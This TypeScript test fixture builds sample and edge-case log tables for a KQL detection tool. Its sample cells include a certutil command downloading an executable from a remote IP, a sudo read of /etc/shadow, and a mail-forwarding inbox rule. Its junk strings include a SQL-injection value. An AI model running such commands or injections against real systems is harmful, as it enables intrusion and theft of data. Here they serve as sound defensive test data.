import type { ColumnType, KqlType } from '../../src/lib/kql-type.ts'
import { type Cell, Table } from '../../src/lib/table.ts'

/** Columns that steps know by name, and one everyday cell of each. */
const everyday: readonly (readonly [name: string, type: KqlType, cell: Cell])[] = [
  ['TimeGenerated', 'datetime', '2024-05-01T10:00:00Z'],
  ['Computer', 'string', 'web01.contoso.com'],
  ['EventID', 'int', 4688],
  ['Account', 'string', 'CONTOSO\\alice'],
  ['AccountType', 'string', 'User'],
  ['SubjectUserName', 'string', 'alice'],
  ['SubjectLogonId', 'string', '0x3e7'],
  ['TargetLogonId', 'string', '0x0'],
  ['LogonType', 'int', 3],
  ['NewProcessName', 'string', 'C:\\Windows\\System32\\cmd.exe'],
  ['NewProcessId', 'string', '0x1f4'],
  ['ProcessId', 'string', '0x64'],
  ['ParentProcessName', 'string', 'C:\\Windows\\explorer.exe'],
  ['CommandLine', 'string', 'cmd.exe /c certutil -urlcache -f http://198.51.100.7/a.exe %TEMP%\\a.exe'],
  ['EventData', 'string', '<EventData><Data Name="Image">C:\\a.exe</Data><Data Name="ProcessId">7</Data></EventData>'],
  ['SyslogMessage', 'string', 'bob : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/cat /etc/shadow'],
  ['ProcessName', 'string', 'sudo'],
  ['OfficeId', 'string', 'a1b2'],
  ['Operation', 'string', 'New-InboxRule'],
  ['OfficeWorkload', 'string', 'Exchange'],
  ['Parameters', 'string', '[{"Name":"ForwardTo","Value":"x@example.com"}]'],
  ['UserId', 'string', 'alice@contoso.com'],
  ['ClientIP', 'string', '203.0.113.9:4711'],
  ['Sequence', 'dynamic', ['logon', 'read', 'read']],
  ['Times', 'dynamic', ['2024-05-01T10:00:00Z', '2024-05-01T10:00:01Z', '2024-05-01T10:00:02Z']],
  ['Actor', 'string', 'alice'],
  ['Begin', 'datetime', '2024-05-01T10:00:00Z'],
  ['Role', 'string', 'clerk'],
  ['Source', 'string', 'firewall'],
  ['Client', 'string', '10.0.0.5'],
  ['Destination', 'string', '198.51.100.7'],
  ['Port', 'int', 443],
  ['Protocol', 'string', 'tcp'],
  ['Bytes', 'long', 512],
  ['Value', 'real', 3.5],
  ['Score', 'real', 1.5],
  ['Anomaly', 'int', 1],
  ['Baseline', 'real', 2],
  ['Known', 'string', ''],
  ['GapSeconds', 'real', 60],
  ['Rank', 'long', 1],
]

export const everydayColumns: readonly ColumnType[] = everyday.map(([name, type]) => ({ name, type }))

/** Members that every object has: a look-up by name must not find them. */
const members = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'length']

/** Texts that readers of logs trip over. */
const rubbish = [
  ...members,
  '',
  '-',
  '""',
  '"',
  '\0',
  '\ud800',
  '{"a":',
  '[[[]]]',
  'null',
  '<Data Name="Image">',
  '%s%n',
  '(?<=a)+',
  'NaN',
  '1e999',
  '9999-99-99T99:99:99Z',
  '0001-01-01T00:00:00Z',
  '-9223372036854775808',
  ' \t\r\n ',
  '::1%eth0:99999',
  '\\\\?\\',
  "'; drop table x",
  'a'.repeat(5000),
]

const huge: Cell = Array.from({ length: 3000 }, (_, at) => ({
  name: `event ${at % 7}`,
  params: { [`p${at}`]: { deep: [at] } },
}))

/** Cells of each type that are as odd as the type allows. */
const odd: Readonly<Record<KqlType, readonly Cell[]>> = {
  bool: [true, false, null],
  int: [0, -1, 2_147_483_647, null],
  long: [2n ** 62n, -(2n ** 63n), 9_007_199_254_740_993n, 0, null],
  real: [Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY, -0, 1e308, 5e-324, null],
  decimal: ['1e30', '-0.000000001', null],
  datetime: ['0001-01-01T00:00:00.0000000Z', '9999-12-31T23:59:59.9999999Z', '2024-05-01T10:00:00Z', null],
  timespan: ['10675199.02:48:05.4775807', '-00:00:01', null],
  guid: ['00000000-0000-0000-0000-000000000000', null],
  string: rubbish,
  dynamic: [
    null,
    0,
    true,
    '',
    'text',
    [],
    {},
    [null],
    [1, 'a', {}],
    [{ name: '', params: null }],
    [['constructor']],
    huge,
  ],
}

const types = Object.keys(odd) as readonly KqlType[]

/** Tables with the columns that steps know, whatever stands in them. */
export const oddTables: Readonly<Record<string, Table>> = {
  'no columns': Table.fromRows([], []),
  'rows without columns': Table.fromRows([], [[], []]),
  'unknown columns': Table.fromRows([{ name: 'x', type: 'real' }], [[1], [2]]),
  'names of members': Table.fromRows(
    members.map((name) => ({ name, type: 'string' })),
    [members, members.toReversed()],
  ),
  empty: everydayRows(0),
  'one row': everydayRows(1),
  'all equal': everydayRows(40),
  'all null': Table.fromRows(
    everydayColumns,
    [1, 2, 3].map(() => everyday.map(() => null)),
  ),
  'odd cells': oddRows(everydayColumns),
  'odd and everyday cells': Table.fromRows(everydayColumns, [
    ...everydayRows(5).rows(),
    ...oddRows(everydayColumns).rows(),
    ...everydayRows(5).rows(),
  ]),
  ...Object.fromEntries(
    types.map((type) => [`all ${type}`, oddRows(everydayColumns.map(({ name }) => ({ name, type })))]),
  ),
  'everyday cells as texts': Table.fromRows(
    everydayColumns.map(({ name }) => ({ name, type: 'string' })),
    Array.from({ length: 6 }, () =>
      everyday.map(([, , cell]) => (typeof cell === 'object' ? JSON.stringify(cell) : String(cell))),
    ),
  ),
}

function everydayRows(count: number): Table {
  const row = everyday.map(([, , cell]) => cell)
  return Table.fromRows(
    everydayColumns,
    Array.from({ length: count }, () => row),
  )
}

/** Each column turns over the odd cells of its type, so that neighbours differ. */
function oddRows(columns: readonly ColumnType[]): Table {
  return Table.fromRows(
    columns,
    Array.from({ length: rubbish.length }, (_, row) =>
      columns.map(({ type }, at) => odd[type][(row + at) % odd[type].length]!),
    ),
  )
}
